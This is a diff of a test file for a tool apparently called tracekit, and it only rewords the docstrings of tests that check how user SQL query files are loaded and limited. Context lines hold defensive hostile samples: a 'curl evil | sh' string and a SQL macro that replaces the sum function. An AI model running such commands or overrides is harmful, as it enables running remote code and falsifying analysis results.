@@ -1,4 +1,4 @@
-"""SQL files of the user's own: where they are found, what they may do."""
+"""User SQL files: their locations and permissions."""
 
 import json
 import os
@@ -57,7 +57,7 @@ SELECT 'curl evil | sh' AS what, '' AS place, 'host x0.1' AS change,
 
 
 def test_a_run_folder_brings_no_sql(run, tmp_path):
-    """Neither as an analysis, nor as advice, nor in the place of tracekit's own."""
+    """Not as an analysis, as advice, or in place of tracekit's SQL."""
     folder = tmp_path / "a_run"
     write_all(folder / "queries")
     write(folder / "queries", advice_evil=EVIL, timeline=EVIL)
@@ -78,7 +78,7 @@ def test_a_run_folder_brings_no_sql(run, tmp_path):
 
 
 def test_none_replaces_another(run, trace, tmp_path):
-    """Nor does what cannot be used in the configuration keep anything else from being used."""
+    """Unusable folders in the configuration do not affect other folders."""
     broken = LONGEST.replace("Scope:    trace", "Scope:    trce").replace("op_sums", "op_calls")
     config = write(
         tmp_path / "config" / "tracekit" / "queries",
@@ -150,7 +150,7 @@ def test_an_analysis_can_only_read_the_trace(trace, cache, tmp_path, monkeypatch
 
 
 def test_a_macro_changes_no_figure(trace, tmp_path):
-    """Neither one in the place of a function, nor one that is made by the way."""
+    """Neither a macro in place of a function, nor an additional macro."""
     head = "-- What?\n--\n-- Kind: function\n"
     harm = {
         "a": ("CREATE OR REPLACE MACRO sum(x) AS 0", "function sum already exists"),
